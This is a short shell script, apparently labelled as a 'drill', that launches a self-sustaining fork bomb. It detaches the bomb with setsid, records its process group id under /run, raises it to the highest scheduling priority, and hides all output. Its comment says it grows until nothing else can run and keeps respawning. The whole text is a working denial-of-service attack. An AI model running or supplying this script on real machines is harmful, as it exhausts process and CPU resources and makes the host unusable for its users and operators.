# Grows until nothing else goes any more, and stays: a process that may not fork ends, and another takes its
# place. It comes first wherever processes take turns.
setsid sh -c '
  echo $$ >/run/holdfast-drill.group
  renice -n -20 -p $$
  bomb() { while :; do bomb & done; }
  bomb' </dev/null >/dev/null 2>&1 &
